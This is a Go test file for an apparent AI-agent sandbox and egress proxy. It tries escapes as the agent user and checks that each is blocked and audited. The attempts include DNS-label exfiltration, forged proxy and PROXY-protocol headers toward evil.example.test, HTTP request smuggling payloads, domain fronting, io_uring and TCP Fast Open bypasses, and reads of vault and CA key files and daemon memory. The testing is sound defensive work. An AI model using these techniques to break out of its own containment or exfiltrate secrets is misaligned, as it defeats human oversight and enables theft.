//go:build linux

package vmtests

// TestEscapes: the escape suite's attempts that TestKernelEnforcement, TestProtocols and
// TestPolicyE2E do not already make. Each runs as the agent's unprivileged user inside the agent
// cgroup (the test binary re-executed through `wirken exec`, ops in escape_ops_test.go), must
// fail, and where it touches the network must leave its audit record; the upstream with no rule
// must never be reached.

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// waitRecord waits up to 10 s for an audit record of type typ that match accepts.
func (e *env) waitRecord(typ string, match func(map[string]any) bool) map[string]any {
	e.t.Helper()
	for range 100 {
		for _, r := range e.records(typ) {
			if match(r) {
				return r
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// byAgent matches records of agent demo's escape helper, with extra field values.
func byAgent(fields map[string]string) func(map[string]any) bool {
	return func(r map[string]any) bool {
		if r["agent"] != "demo" || r["comm"] != "escape-agent" {
			return false
		}
		for k, v := range fields {
			if s, _ := r[k].(string); !strings.Contains(s, v) {
				return false
			}
		}
		return true
	}
}

// wirkenCAName is the common name of the CA wirken signs agents' leaf certificates with.
func (e *env) wirkenCAName(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(e.dir, "state", "ca.pem"))
	if err != nil {
		t.Fatal(err)
	}
	blk, _ := pem.Decode(b)
	if blk == nil {
		t.Fatal("ca.pem holds no PEM block")
	}
	c, err := x509.ParseCertificate(blk.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	return c.Subject.CommonName
}

// udpSink counts the datagrams that arrive at addr.
func udpSink(t *testing.T, addr string) *atomic.Int64 {
	t.Helper()
	pc, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatalf("UDP listener on %s: %v", addr, err)
	}
	t.Cleanup(func() { pc.Close() })
	var n atomic.Int64
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			n.Add(1)
		}
	}()
	return &n
}

// reflectingUpstream serves api.example.test on addr and answers every request with the
// Authorization header it received, in the body and in a response header.
func reflectingUpstream(t *testing.T, addr string, cert tls.Certificate) *atomic.Int64 {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("reflecting upstream on %s: %v", addr, err)
	}
	var n atomic.Int64
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			n.Add(1)
			w.Header().Set("X-Echo-Authorization", r.Header.Get("Authorization"))
			fmt.Fprintf(w, "you sent: Authorization: %s\n", r.Header.Get("Authorization"))
		}),
		TLSConfig:         &tls.Config{Certificates: []tls.Certificate{cert}},
		ReadHeaderTimeout: 5 * time.Second,
	}
	go srv.Serve(tls.NewListener(ln, srv.TLSConfig))
	t.Cleanup(func() { srv.Close() })
	return &n
}

func TestEscapes(t *testing.T) {
	e := newEnv(t)
	wirkenCA := e.wirkenCAName(t)
	const upstreamCA = "wirken e2e upstream CA"
	// esc runs one attempt as the agent and logs what it saw (the suite's outcome table).
	esc := func(t *testing.T, args ...string) escapeResult {
		t.Helper()
		r := e.escape(args...)
		t.Logf("%s %.60q: errno %d (%s) %.160q", args[0], args[1:], r.Errno, r.Err, r.Detail)
		return r
	}
	// expectFail checks that an attempt failed (with want, unless 0) and reached no upstream.
	expectFail := func(t *testing.T, what string, r escapeResult, want unix.Errno) {
		t.Helper()
		switch {
		case r.Errno == 0:
			t.Errorf("%s: succeeded (%+v)", what, r)
		case want != 0 && r.Errno != int(want):
			t.Errorf("%s: %+v; want %v", what, r, want)
		}
		if strings.Contains(r.Detail, upstreamCA) {
			t.Errorf("%s: reached an upstream directly (%+v)", what, r)
		}
	}

	t.Run("DNS exfiltration through long labels to the allowed resolver", func(t *testing.T) {
		const n = 100
		denied := len(e.records("dns.deny"))
		// Nothing listens on 127.0.0.4:53: only wirken's resolver (DNS is steered) answers.
		for _, suffix := range []string{"exfil.example.test", "api.example.test"} {
			r := esc(t, "dns-many", "127.0.0.4:53", suffix, strconv.Itoa(n))
			if r.Errno != 0 || r.Detail != fmt.Sprintf(`{"NXDOMAIN":%d}`, n) {
				t.Errorf("%d unique long names under %s: %+v; want NXDOMAIN for each", n, suffix, r)
			}
		}
		for _, q := range e.dnsUp.queries() {
			if q != "api.example.test" && q != "evil.example.test" {
				t.Errorf("the upstream resolver was asked %q", q)
			}
		}
		var mine int
		for _, rec := range e.records("dns.deny")[denied:] {
			if rec["agent"] == "demo" && rec["comm"] == "escape-agent" && len(rec["host"].(string)) > 3*64 {
				mine++
			}
		}
		if mine != 2*n {
			t.Errorf("%d dns.deny records of the long names; want %d", mine, 2*n)
		}
	})

	t.Run("the proxy and resolver ports directly, with forged headers", func(t *testing.T) {
		proxy := fmt.Sprintf("127.0.0.1:%d", e.proxyPort)
		mapped := fmt.Sprintf("[::ffff:127.0.0.1]:%d", e.proxyPort)
		forged := "GET http://evil.example.test/steal HTTP/1.1\r\nHost: evil.example.test\r\n" +
			"X-Forwarded-For: 127.0.0.3\r\nForwarded: for=127.0.0.3;host=evil.example.test\r\n" +
			"X-Original-Dst: 127.0.0.3:443\r\nX-Wirken-Agent: root\r\n\r\n"
		unsteered := len(e.records("conn.deny"))
		for _, tc := range []struct{ name, addr, sni, payload string }{
			{"absolute-form with forwarding headers", proxy, "-", forged},
			{"fake CONNECT", proxy, "-", "CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n"},
			{"PROXY protocol line", proxy, "-", "PROXY TCP4 127.0.0.3 127.0.0.3 40000 443\r\n" + forged},
			{"TLS with another host's name", proxy, "evil.example.test", "GET /steal HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"},
			{"v4-mapped, forged headers", mapped, "-", forged},
		} {
			r := esc(t, "raw", tc.addr, tc.sni, tc.payload)
			if r.Detail != "" {
				t.Errorf("%s: the proxy answered %q; want the connection reset", tc.name, r.Detail)
			}
		}
		var n int
		for _, rec := range e.records("conn.deny")[unsteered:] {
			if strings.HasPrefix(fmt.Sprint(rec["reason"]), "no steering metadata") {
				n++
			}
		}
		if n == 0 {
			t.Error("no conn.deny record for the connections straight to the proxy port")
		}

		// Steered through the proxy: the same forgeries toward the host with no rule.
		for _, tc := range []struct{ name, addr, payload, want string }{
			{"absolute-form URI to another host", "127.0.0.3:80", strings.Replace(forged, "\r\n\r\n", "\r\nConnection: close\r\n\r\n", 1), "HTTP/1.1 403"},
			{"fake CONNECT", "127.0.0.3:80", "CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\nConnection: close\r\n\r\n", "HTTP/1.1 403"},
		} {
			denied := len(e.records("request.deny"))
			r := esc(t, "raw", tc.addr, "-", tc.payload)
			if r.Errno != 0 || !strings.HasPrefix(r.Detail, tc.want) || !strings.Contains(r.Detail, "wirken: ") {
				t.Errorf("%s via %s: %+v; want %s with a wirken: reason", tc.name, tc.addr, r, tc.want)
			}
			if len(e.records("request.deny")) == denied {
				t.Errorf("%s: no request.deny record", tc.name)
			}
		}
		// A PROXY protocol header is not HTTP: refused before anything is parsed.
		denied := len(e.records("conn.deny")) + len(e.records("request.deny"))
		r := esc(t, "raw", "127.0.0.3:443", "-", "PROXY TCP4 127.0.0.2 127.0.0.2 40000 443\r\nGET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
		if strings.Contains(r.Detail, "200 OK") {
			t.Errorf("PROXY line through the proxy: %+v", r)
		}
		if len(e.records("conn.deny"))+len(e.records("request.deny")) == denied {
			t.Errorf("PROXY line through the proxy (%+v): no conn.deny or request.deny record", r)
		}

		// The resolver's port: over UDP it is the agent's own resolver (the policy applies);
		// over TCP, unsteered, it answers nothing.
		res := fmt.Sprintf("127.0.0.1:%d", e.dnsPort)
		if r := esc(t, "dns-udp", res, "evil.example.test", "connected"); r.Errno != 0 || !strings.HasPrefix(r.Detail, "NXDOMAIN ") {
			t.Errorf("UDP straight to the resolver port: %+v; want NXDOMAIN", r)
		}
		if e.waitRecord("dns.deny", byAgent(map[string]string{"host": "evil.example.test"})) == nil {
			t.Error("no dns.deny record for the query straight to the resolver port")
		}
		tcpRefused := len(e.records("dns.deny"))
		if r := esc(t, "dns-tcp", res, "api.example.test"); r.Errno == 0 {
			t.Errorf("TCP straight to the resolver port answered: %+v", r)
		}
		if e.waitRecord("dns.deny", func(m map[string]any) bool {
			return strings.Contains(fmt.Sprint(m["reason"]), "not an agent's steered connection")
		}) == nil || len(e.records("dns.deny")) == tcpRefused {
			t.Error("no dns.deny record for the TCP connection straight to the resolver port")
		}
	})

	t.Run("the control socket", func(t *testing.T) {
		sock := filepath.Join(e.dir, "control.sock")
		for _, req := range []string{`{"op":"reload"}`, `{"op":"agents"}`} {
			expectFail(t, "control socket "+req, esc(t, "unix", sock, req), unix.EACCES)
		}
		for _, cmd := range []string{"reload", "status"} {
			r := e.asAgent(wirkenBin, cmd)
			if r.code == 0 || !strings.Contains(r.stderr, "permission denied") {
				t.Errorf("wirken %s as the agent: exit %d, %q; want permission denied", cmd, r.code, r.stderr)
			}
		}
	})

	t.Run("wirken's private files", func(t *testing.T) {
		state := filepath.Join(e.dir, "state")
		ents, err := os.ReadDir(state)
		if err != nil {
			t.Fatal(err)
		}
		public := map[string]bool{"ca.pem": true, "ca-bundle.pem": true, "audit.pub": true, "certs": true}
		tried := map[string]bool{}
		for _, ent := range ents {
			if public[ent.Name()] || ent.IsDir() {
				continue
			}
			p := filepath.Join(state, ent.Name())
			expectFail(t, "reading "+p, esc(t, "read", p), unix.EACCES)
			tried[ent.Name()] = true
		}
		for _, want := range []string{"vault.wkv", "vault.key", "ca-key.pem", "audit.jsonl"} {
			if !tried[want] {
				t.Errorf("%s is not in %s (have %v): the check would prove nothing", want, state, tried)
			}
		}
		if r := esc(t, "read", filepath.Join(state, "ca-bundle.pem")); r.Errno != 0 {
			t.Errorf("the public CA bundle is unreadable to the agent (%+v): the check above proves nothing", r)
		}
	})

	t.Run("ptrace and memory of the daemon", func(t *testing.T) {
		e.daemonMu.Lock()
		pid := strconv.Itoa(e.daemon.Process.Pid)
		e.daemonMu.Unlock()
		expectFail(t, "PTRACE_ATTACH", esc(t, "ptrace", pid), unix.EPERM)
		expectFail(t, "process_vm_readv", esc(t, "vm-readv", pid, "400000"), unix.EPERM)
		for _, f := range []string{"mem", "environ", "maps", "auxv"} {
			expectFail(t, "/proc/daemon/"+f, esc(t, "read", "/proc/"+pid+"/"+f), unix.EACCES)
		}
	})

	t.Run("a daemonized child (setsid, double fork) is still steered", func(t *testing.T) {
		dir := filepath.Join(e.dir, "drop")
		if err := os.Mkdir(dir, 0o777); err != nil {
			t.Fatal(err)
		}
		os.Chmod(dir, 0o777)
		out := filepath.Join(dir, "daemon.json")
		before := len(e.api.seen())
		if r := esc(t, "daemonize", out, "https://api.example.test/echo"); r.Errno != 0 {
			t.Fatalf("daemonizing: %+v", r)
		}
		var res escapeResult
		for i := 0; ; i++ {
			b, err := os.ReadFile(out)
			if err == nil && json.Unmarshal(b, &res) == nil {
				break
			}
			if i == 300 {
				t.Fatal("the daemonized grandchild wrote no result in 30 s")
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Logf("grandchild: %+v", res)
		var pid, sid, ppid int
		fmt.Sscanf(res.Detail, "pid=%d sid=%d ppid=%d", &pid, &sid, &ppid)
		if res.Errno != 0 || pid == 0 || sid != pid || ppid == 0 || !strings.Contains(res.Detail, "/agents/demo ") {
			t.Fatalf("the grandchild is not a session leader in the agent cgroup, or failed: %+v", res)
		}
		if !strings.Contains(res.Detail, "status=200 issuer="+strconv.Quote(wirkenCA)) {
			t.Fatalf("the grandchild's request did not go through wirken's proxy: %s", res.Detail)
		}
		seen := e.api.seen()
		if len(seen) != before+1 || seen[len(seen)-1] != "Bearer "+e.canary {
			t.Fatalf("upstream saw %q; want one request with the injected credential", seen[before:])
		}
		if e.waitRecord("credential.use", func(m map[string]any) bool {
			return byAgent(nil)(m) && m["pid"] == float64(pid)
		}) == nil {
			t.Fatalf("no credential.use record of agent demo with the grandchild's pid %d", pid)
		}
	})

	t.Run("io_uring connect", func(t *testing.T) {
		disabled, _ := os.ReadFile("/proc/sys/kernel/io_uring_disabled")
		t.Logf("kernel.io_uring_disabled = %q", strings.TrimSpace(string(disabled)))
		r := esc(t, "uring", "127.0.0.3:443", "evil.example.test")
		expectFail(t, "io_uring connect to the host with no rule", r, 0)
		if v := strings.TrimSpace(string(disabled)); v != "" && v != "0" {
			// Not for unprivileged users here: setup itself is refused.
			if r.Errno != int(unix.EPERM) || !strings.Contains(r.Err, "io_uring_setup") {
				t.Errorf("io_uring is disabled (%s) but the attempt got %+v", v, r)
			}
			return
		}
		if strings.Contains(r.Err, "io_uring_setup") || strings.Contains(r.Err, "io_uring_enter") {
			t.Fatalf("io_uring itself failed, so the test proves nothing: %+v", r)
		}
		if e.waitRecord("conn.deny", byAgent(map[string]string{"dst": "127.0.0.3:443"})) == nil {
			t.Error("no conn.deny record for the io_uring connect")
		}
		// To an allowed host: steered, like any connect.
		if r := esc(t, "uring", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
			t.Errorf("io_uring connect to the allowed host: %+v; want wirken's certificate (%q)", r, wirkenCA)
		}
	})

	t.Run("UDP: sendmsg on a connected socket, sendmmsg", func(t *testing.T) {
		sink := udpSink(t, "127.0.0.3:443")
		before := len(e.records("kernel.deny"))
		for _, tc := range []struct {
			name string
			args []string
		}{
			{"sendmsg elsewhere on a socket connected to DNS (v4)", []string{"udp-sendmsg", "127.0.0.4:53", "127.0.0.3:443"}},
			{"sendmsg elsewhere on a socket connected to DNS (mapped)", []string{"udp-sendmsg", "[::ffff:127.0.0.4]:53", "[::ffff:127.0.0.3]:443"}},
			{"sendmmsg to 443 (v4)", []string{"sendmmsg", "127.0.0.3:443"}},
			{"sendmmsg to 443 (mapped)", []string{"sendmmsg", "[::ffff:127.0.0.3]:443"}},
			{"sendmmsg to 443 (v6)", []string{"sendmmsg", "[2001:db8::1]:443"}},
			{"sendmmsg to a high port", []string{"sendmmsg", "127.0.0.3:4433"}},
		} {
			expectFail(t, tc.name, esc(t, tc.args...), unix.EPERM)
		}
		// The same call to port 53 goes (to wirken's resolver): the refusals above are the hook's.
		if r := esc(t, "sendmmsg", "127.0.0.4:53"); r.Errno != 0 || r.Detail != "2 sent" {
			t.Errorf("sendmmsg to port 53: %+v; want both sent", r)
		}
		time.Sleep(200 * time.Millisecond)
		if n := sink.Load(); n != 0 {
			t.Errorf("%d datagrams arrived at 127.0.0.3:443", n)
		}
		reasons := map[string]int{}
		for range 50 {
			clear(reasons)
			for _, r := range e.records("kernel.deny")[before:] {
				if byAgent(nil)(r) {
					reasons[r["reason"].(string)]++
				}
			}
			if reasons["sendmsg4 refused"] >= 5 && reasons["sendmsg6 refused"] >= 1 {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		// A dual-stack socket's datagram to a v4-mapped address is sent (and refused) by the
		// IPv4 path: sendmsg4 for all but the native IPv6 one.
		if reasons["sendmsg4 refused"] < 5 || reasons["sendmsg6 refused"] < 1 {
			t.Errorf("kernel.deny records %v; want at least 5 sendmsg4 and 1 sendmsg6 refusals", reasons)
		}
	})

	t.Run("TCP Fast Open", func(t *testing.T) {
		r := esc(t, "tfo-sendto", "127.0.0.3:443", "GET /steal HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
		if strings.Contains(r.Detail, "200 OK") || (r.Errno == 0 && !strings.HasPrefix(r.Detail, "HTTP/1.1 403")) {
			t.Errorf("sendto MSG_FASTOPEN to the host with no rule: %+v; want a 403 or a reset", r)
		}
		if e.waitRecord("request.deny", byAgent(map[string]string{"dst": "127.0.0.3:443"})) == nil &&
			e.waitRecord("conn.deny", byAgent(map[string]string{"dst": "127.0.0.3:443"})) == nil {
			t.Error("no refusal record for the MSG_FASTOPEN attempt")
		}
		expectFail(t, "TCP_FASTOPEN_CONNECT to the host with no rule", esc(t, "tfo-connect", "127.0.0.3:443", "evil.example.test"), 0)
		if r := esc(t, "tfo-connect", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
			t.Errorf("TCP_FASTOPEN_CONNECT to the allowed host: %+v; want wirken's certificate (%q)", r, wirkenCA)
		}
	})

	t.Run("HTTP request smuggling", func(t *testing.T) {
		hidden := func(tag string) string {
			return "GET /echo?smuggled=" + tag + " HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n"
		}
		chunk := func(s string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(s), s) }
		head := "POST /echo HTTP/1.1\r\nHost: api.example.test\r\n"
		clte := "0\r\n\r\n" + hidden("clte")
		for _, tc := range []struct{ name, payload, want string }{
			{"CL.TE", head + "Content-Length: " + strconv.Itoa(len(clte)) + "\r\nTransfer-Encoding: chunked\r\n\r\n" + clte, "HTTP/1.1 400"},
			{"TE.CL", head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(hidden("tecl")), "HTTP/1.1 400"},
			// Unparsable: the connection is closed without an answer ("").
			{"TE.TE (obfuscated)", head + "Transfer-Encoding: chunked\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n" + chunk(hidden("tete")), ""},
			{"duplicate Content-Length", head + "Content-Length: 0\r\nContent-Length: " + strconv.Itoa(len(hidden("dupcl"))) + "\r\n\r\n" + hidden("dupcl"), ""},
			{"obs-fold Transfer-Encoding", head + "Content-Length: 0\r\nX-Pad: a\r\n Transfer-Encoding: chunked\r\n\r\n" + hidden("fold"), "HTTP/1.1 400"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				upBefore, useBefore := len(e.api.seen()), len(e.records("credential.use"))
				refusals := len(e.records("request.deny")) + len(e.records("conn.deny"))
				r := esc(t, "raw", "127.0.0.2:443", "api.example.test", tc.payload)
				if !strings.HasPrefix(r.Detail, tc.want) || (tc.want == "" && r.Detail != "") || strings.Contains(r.Detail, "200 OK") {
					t.Errorf("got %+v; want %s... and nothing else", r, tc.want)
				}
				if up, use := len(e.api.seen())-upBefore, len(e.records("credential.use"))-useBefore; up != use {
					t.Errorf("the upstream got %d requests but %d were audited", up, use)
				}
				if len(e.records("request.deny"))+len(e.records("conn.deny")) == refusals {
					t.Error("the refusal was not audited")
				}
			})
		}
		t.Run("pipelined: each request decided and audited", func(t *testing.T) {
			upBefore, useBefore, denyBefore := len(e.api.seen()), len(e.records("credential.use")), len(e.records("request.deny"))
			r := esc(t, "raw", "127.0.0.2:443", "api.example.test",
				"GET /echo?smuggled=pipe1 HTTP/1.1\r\nHost: api.example.test\r\n\r\n"+
					"GET /admin?smuggled=pipe2 HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
			if !strings.HasPrefix(r.Detail, "HTTP/1.1 200") || !strings.Contains(r.Detail, "HTTP/1.1 403") {
				t.Errorf("got %+v; want 200 then 403", r)
			}
			if up, use := len(e.api.seen())-upBefore, len(e.records("credential.use"))-useBefore; up != 1 || use != 1 {
				t.Errorf("the upstream got %d requests and %d were audited; want 1 and 1", up, use)
			}
			if len(e.records("request.deny")) != denyBefore+1 {
				t.Error("the second request's refusal was not audited")
			}
		})
		e.api.mu.Lock()
		defer e.api.mu.Unlock()
		for _, q := range e.api.qs {
			if strings.Contains(q, "smuggled=") && q != "smuggled=pipe1" {
				t.Errorf("a hidden request reached the upstream: %q", q)
			}
		}
	})

	t.Run("Host/SNI mismatch and domain fronting", func(t *testing.T) {
		denied := len(e.records("request.deny"))
		r := esc(t, "raw", "127.0.0.2:443", "api.example.test", "GET /echo HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
		if !strings.HasPrefix(r.Detail, "HTTP/1.1 403") {
			t.Errorf("SNI api.example.test, Host evil.example.test: %+v; want 403", r)
		}
		if e.waitRecord("request.deny", func(m map[string]any) bool {
			return strings.Contains(fmt.Sprint(m["reason"]), "Host does not match the TLS server name")
		}) == nil || len(e.records("request.deny")) == denied {
			t.Error("no request.deny record for the fronted request")
		}
		r = esc(t, "raw", "127.0.0.2:443", "evil.example.test", "GET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
		expectFail(t, "SNI evil.example.test, Host api.example.test", r, 0)
		if e.waitRecord("conn.deny", byAgent(map[string]string{"host": "evil.example.test"})) == nil {
			t.Error("no conn.deny record for the TLS name with no rule")
		}
	})

	t.Run("a credential reflected in the response", func(t *testing.T) {
		reflected := reflectingUpstream(t, "127.0.0.6:443", e.upCA.leaf(t, "api.example.test"))
		e.dnsUp.set("api.example.test", "127.0.0.6")
		defer e.dnsUp.set("api.example.test", "127.0.0.2")
		r := esc(t, "fetch", "https://api.example.test/echo/reflect")
		if r.Errno != 0 || !strings.Contains(r.Detail, "status=200") || reflected.Load() != 1 {
			t.Fatalf("fetch through the reflecting upstream: %+v (it served %d)", r, reflected.Load())
		}
		if strings.Contains(r.Detail, e.canary) {
			t.Fatalf("the agent read the injected secret back from the response: %s", r.Detail)
		}
		stars := strings.Repeat("*", len(e.canary))
		if !strings.Contains(r.Detail, `x-echo-authorization="Bearer `+stars+`"`) || !strings.Contains(r.Detail, "Authorization: Bearer "+stars+"\n") {
			t.Fatalf("want the secret masked in the reflected header and body: %s", r.Detail)
		}
	})

	if n := e.other.ln.accepted.Load(); n != 0 {
		t.Errorf("the upstream with no rule accepted %d connections", n)
	}
	for name, text := range map[string]string{"daemon log": e.logs.String(), "audit log": e.auditLog()} {
		if len(text) == 0 || strings.Contains(text, e.canary) {
			t.Errorf("the %s is empty or holds the secret", name)
		}
	}
}
